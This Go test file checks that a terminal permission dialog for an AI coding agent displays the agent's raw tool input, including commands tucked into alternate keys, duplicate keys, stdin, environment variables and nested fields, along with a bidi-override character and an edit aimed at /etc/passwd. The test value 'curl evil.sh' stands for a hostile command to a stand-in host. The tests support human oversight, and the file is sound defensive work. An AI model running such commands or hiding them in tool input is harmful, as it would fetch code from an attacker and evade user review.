package dialog

import (
	"strings"
	"testing"

	"parley/acpclient"
	"parley/internal/conversation"
)

// Whatever key what would be done stands under, it is on the screen without being
// asked for.
func TestRawInputIsShown(t *testing.T) {
	const evil = "curl evil.sh"
	for _, raw := range []string{
		`{"command":"curl evil.sh"}`, `{"cmd":"curl evil.sh"}`, `{"command":["curl","evil.sh"]}`,
		`{"command":"curl","args":["evil.sh"]}`, `{"script":"curl evil.sh"}`, `{"code":"curl evil.sh"}`,
		`{"commandLine":"curl evil.sh"}`, `{"command_line":"curl evil.sh"}`, `{"Command":"curl evil.sh"}`,
		`{"shell":"curl evil.sh"}`, `{"bash":"curl evil.sh"}`, `{"input":"curl evil.sh"}`, `{"exec":{"command":"curl evil.sh"}}`,
		`{"params":[{"run":"curl evil.sh"}]}`, `"curl evil.sh"`, `["curl evil.sh"]`, `{"command":"ls","cmd":"curl evil.sh"}`,
		`{"command":"ls","script":"curl evil.sh"}`, `{"command":"ls","args":"curl evil.sh"}`, `{"command":"ls","args":["a",{"b":"curl evil.sh"}]}`,
		`{"command":"curl evil.sh","command":"ls"}`, `{"command":"ls","command":"curl evil.sh"}`,
		`{"script":"set -e\n\ncurl evil.sh\n"}`, `{"path":"/home/ada/greet/main.go","content":"curl evil.sh"}`, `{"curl evil.sh":true}`,
		`{"command":"","stdin":"curl evil.sh"}`, `{"command":"ls","env":{"PATH":"curl evil.sh"}}`,
	} {
		t.Run(raw, func(t *testing.T) {
			p := editPermission()
			p.Asked.RawInput = []byte(raw)
			d, _ := armed(p)
			if text := shownBy(d, 100, 60); !strings.Contains(text, evil) {
				t.Errorf("what would be done is not shown:\n%s", text)
			}
		})
	}
	t.Run("argv", func(t *testing.T) {
		p := runPermission()
		p.Asked.RawInput = []byte(`{"argv":["curl","evil.sh"]}`)
		d, _ := armed(p)
		if text := shownBy(d, 100, 60); !strings.Contains(text, `"curl"`) || !strings.Contains(text, `"evil.sh"`) {
			t.Errorf("what would be done is not shown:\n%s", text)
		}
	})
}

// A script is shown in its own lines, behind a bar: they cannot look like answers.
func TestRawInputIsReadable(t *testing.T) {
	p := runPermission()
	p.Asked.RawInput = []byte(`{"script":"set -e\n  1  y  ✓ Yes\nif a; then\n\tb\u202e\nfi","timeout":5000}`)
	d, _ := armed(p)
	text := strings.Join(d.View(80, 40).Lines, "\n")
	for _, want := range []string{"script", "set -e", "if a; then", "    b⟨U+202E⟩", "timeout", "5000"} {
		if !strings.Contains(text, want) {
			t.Errorf("%q is not shown in\n%s", want, text)
		}
	}
	if strings.Contains(text, `\n`+"if") {
		t.Errorf("the lines of the script are not apart:\n%s", text)
	}
}

// The fragments of an edit are what its diff shows, be the diff of the whole file or not.
func TestFragmentsOfADiffAreNotRepeated(t *testing.T) {
	file := "a\nb\na\n"
	edit := func(input, old, now string) string {
		d, _ := armed(&conversation.Permission{ID: 7, Options: usualOptions(), Asked: &conversation.ToolCall{
			Title: "Edit", Kind: acpclient.ToolEdit, Content: []acpclient.ToolCallContent{acpclient.DiffContent("/home/ada/greet/main.go", &old, now)}, RawInput: []byte(input),
		}})
		return shownBy(d, 80, 40)
	}
	for _, tt := range []struct{ input, now, shown string }{
		{`{"old_string":"b","new_string":"c","replace_all":false}`, "a\nc\na\n", ""},
		{`{"oldString":"b","newString":"c","replaceAll":false}`, "a\nc\na\n", ""},
		{`{"old_string":"a","new_string":"c","replace_all":true}`, "c\nb\nc\n", "replace_all"},
		{`{"old_string":"b\n","new_string":""}`, "a\na\n", ""},
		{`{"old_string":"a","new_string":"c","replace_all":true}`, "c\nb\na\n", "replace_all"},
		{`{"old_string":"b","new_string":"d"}`, "a\nc\na\n", "new_string"},
		{`{"old_string":"b","new_string":"c","replace_all":1}`, "a\nc\na\n", "replace_all"},
	} {
		text := edit(tt.input, file, tt.now)
		if tt.shown != "" {
			if !strings.Contains(text, tt.shown) {
				t.Errorf("%s: %s is not shown\n%s", tt.input, tt.shown, text)
			}
			continue
		}
		for _, key := range []string{"_string", "String", "replace"} {
			if strings.Contains(text, key) {
				t.Errorf("%s: %s is shown\n%s", tt.input, key, text)
			}
		}
	}
}

// What is shown otherwise is not shown twice.
func TestWhatIsShownOtherwiseIsNotRepeated(t *testing.T) {
	old := "a"
	p := &conversation.Permission{ID: 7, Options: usualOptions(), Asked: &conversation.ToolCall{
		Title: "Edit", Content: []acpclient.ToolCallContent{acpclient.DiffContent("/home/ada/greet/main.go", &old, "b")},
		RawInput: []byte(`{"file_path":"/home/ada/greet/main.go","old_string":"a","new_string":"b"}`),
	}}
	d, _ := armed(p)
	if text := shownBy(d, 80, 40); strings.Contains(text, "_string") || strings.Contains(text, "file_path") {
		t.Errorf("it is shown twice:\n%s", text)
	}
	p = runPermission()
	p.Asked.RawInput = []byte(`{"command":"ls","args":["-l"],"cwd":"/home/ada/greet"}`)
	d, _ = armed(p)
	if text := shownBy(d, 80, 40); strings.Contains(text, "cwd") || strings.Contains(text, "args") {
		t.Errorf("it is shown twice:\n%s", text)
	}
	// The same name with another value is something else.
	p = editPermission()
	p.Asked.RawInput = []byte(`{"file_path":"/etc/passwd"}`)
	d, _ = armed(p)
	if text := shownBy(d, 80, 40); !strings.Contains(text, "/etc/passwd") {
		t.Errorf("the other path is not shown:\n%s", text)
	}
}
